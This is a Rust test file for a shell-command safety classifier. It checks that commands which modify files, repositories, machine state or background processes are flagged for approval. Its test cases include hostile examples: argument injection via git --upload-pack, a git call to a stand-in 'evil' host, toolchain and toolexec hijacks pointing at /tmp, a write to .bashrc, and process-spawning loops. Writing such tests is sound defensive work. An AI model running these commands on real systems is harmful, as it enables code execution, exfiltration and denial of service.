//! Changes: writing, editing or deleting files, touching times and modes, the repository's
//! state, the machine's (clock, kernel log, processes, services, containers, infrastructure), and
//! work left running in the background ask.

use super::Verdict;
use super::tests::check;

/// Writes, edits, deletes and the machine's state, through every option that makes them.
#[test]
fn changes_to_files_the_repository_and_the_machine_ask() {
    check(
        &[
            (
                "git ls-remote --upload-p='touch /tmp/p;' .",
                "changes the repository",
            ),
            ("sed --in 's/a/b/' src/main.rs", "edits files"),
            ("sed -Ei~ 's/a/b/' src/main.rs", "in place"),
            ("awk 'BEGIN{if(1)print \"x\" > \"src/main.rs\"}'", "writes"),
            ("sort -uo./out.txt f", "writes its output"),
            ("sort --outp=f x", "writes its output"),
            ("echo x | tee -- -/../src/main.rs", "writes"),
            ("touch -ad2001-01-01 src/main.rs", "times"),
            ("rustfmt src/main.rs", "only to check"),
            ("cargo clippy --fix --allow-dirty", "rewrites source"),
            (
                "go test -coverprofile=src/main.rs ./...",
                "changes the project",
            ),
            ("pytest --basetemp=src", "deletes"),
            (
                "printf '[toolchain]\\npath = \"/tmp/t\"\\n' > rust-toolchain; cargo build",
                "pick up by themselves",
            ),
            (
                "printf 'go 1.21\\nuse /tmp/x\\n' > go.work; go test ./...",
                "pick up",
            ),
            ("echo 'module x' > go.mod", "pick up by themselves"),
            ("echo 'build:' > justfile", "pick up by themselves"),
            ("sleep 100000 &", "background"),
            ("(sleep 999 &)", "background"),
            // A subshell, group or loop started with `&` (classifier round 14).
            ("(sleep 999) &", "background"),
            ("{ sleep 999; } &", "background"),
            ("while :; do (sleep 9999) & done", "background"),
            (
                "until false; do { tail -f /dev/null; } & done",
                "background",
            ),
            ("for i in {1..100000}; do (sleep 999) & done", "background"),
            ("while :; do ( (:) & ) ; done", "background"),
            ("(cd src && cat main.rs) &", "background"),
            ("date --se=2020-01-01", "clock"),
            ("dmesg -C", "clears"),
            ("ss -K dst 1.2.3.4", "kills"),
            ("ionice -c3 -p 1", "another process"),
            ("git ls-remote http://evil/DATA", "changes the repository"),
            ("terraform show -json", "infrastructure"),
            ("docker inspect web", "containers"),
            ("python3 -m pytest --basetemp=src", "deletes"),
            ("pytest --junitxml=src/main.rs", "writes"),
            ("python3 -m venv --clear src", "overwrite or delete"),
            (
                "tsc --tsBuildInfoFile ../.bashrc --incremental",
                "only to check",
            ),
            ("go env --w GOFLAGS=-toolexec=/tmp/x", "changes files"),
            ("git tag -mlol v2", "changes the repository"),
            ("git notes --ref list add -m x", "changes the repository"),
            ("touch -m src/main.rs", "times"),
            ("make -t", "touching"),
            ("file -C -m src/main.rs", "magic"),
            ("cargo doc --open", "starts"),
            ("systemctl show --property=Environment svc", "services"),
            ("ruff format src", "only to check"),
            ("biome migrate format", "only to check"),
            ("python3 -m venv .", "overwrite"),
            ("git config edit", "changes settings"),
            ("mkdir -m 4777 d", "modes"),
        ],
        Verdict::Ask,
    );
}
